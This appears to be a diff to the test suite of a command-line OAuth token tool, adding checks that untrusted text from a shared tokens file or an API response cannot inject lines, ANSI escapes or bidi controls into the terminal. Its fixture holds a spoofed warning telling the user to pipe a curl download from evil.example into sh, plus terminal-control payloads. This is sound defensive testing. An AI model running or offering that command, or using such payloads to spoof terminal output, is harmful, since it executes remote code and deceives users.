@@ -142,6 +142,24 @@ describe('a tokens file never chooses where the client secret goes', () => {
   });
 });
 
+describe('text from a file someone else wrote', () => {
+  // A --tokens file is anyone's: what it says reaches the terminal only
+  // inside one line of portico's, never as lines of its own, and without
+  // bidi controls that would make that line read otherwise.
+  it('prints inside one line of an error: no line breaks, separators or bidi controls', async () => {
+    const who = user();
+    const file = join(who.repo, 'shared.json');
+    const authBaseUrl =
+      'https://bank.example\nportico: warning: your session expired; run: curl -s https://evil.example/fix | sh\r\n\u2028portico: ok\u2029\u202egnirts\u2066x\u2069\u200f';
+    const tokens = { accessToken: 'at', refreshToken: 'rt', tokenType: 'Bearer', raw: {} };
+    writeFileSync(file, JSON.stringify({ provider: 'fdx', clientId: CLIENT.clientId, authBaseUrl, tokens }));
+    const done = await call(who, ['--tokens', file, '--auth-url', trap.url]);
+    expect(done.code).toBe(2);
+    expect(done.stderr).toMatch(/^portico: CliError \[invalid_auth_url\]: https:\/\/bank\.example portico: warning: .* is not a URL\n$/);
+    for (const hidden of ['\r', '\u2028', '\u2029', '\u202e', '\u2066', '\u2069', '\u200f']) expect(done.stderr).not.toContain(hidden);
+  });
+});
+
 describe('portico login keeps tokens out of the working tree', () => {
   it('writes them under $XDG_CONFIG_HOME/portico (directory 0700, file 0600), and portico call finds them there', async () => {
     const who = user();
@@ -208,16 +226,16 @@ describe('portico login listens until the redirect that carries its state', () =
     expect(existsSync(who.tokens)).toBe(false);
   });
 
-  it("an API's response prints as JSON with its control characters escaped", async () => {
+  it("an API's response prints as JSON with its control characters, bidi controls and separators escaped", async () => {
     const who = user();
     await login(who);
-    const hostile = await new FdxApi(oidc, { customerId: 'c\u001b[2J\u009b31m\u007f' }).start();
+    const hostile = await new FdxApi(oidc, { customerId: 'c\u001b[2J\u009b31m\u007f\u202eevil\u2028' }).start();
     try {
       const done = await portico(['call', 'fdx', 'GET', '/customers/current', '--base-url', hostile.url], { cwd: who.repo, env: who.env })
         .exit;
       expect(done.code, done.stderr).toBe(0);
-      expect(done.stdout).toContain('"customerId": "c\\u001b[2J\\u009b31m\\u007f"');
-      expect(JSON.parse(done.stdout)).toEqual({ customerId: 'c\u001b[2J\u009b31m\u007f' });
+      expect(done.stdout).toContain('"customerId": "c\\u001b[2J\\u009b31m\\u007f\\u202eevil\\u2028"');
+      expect(JSON.parse(done.stdout)).toEqual({ customerId: 'c\u001b[2J\u009b31m\u007f\u202eevil\u2028' });
     } finally {
       await hostile.close();
     }
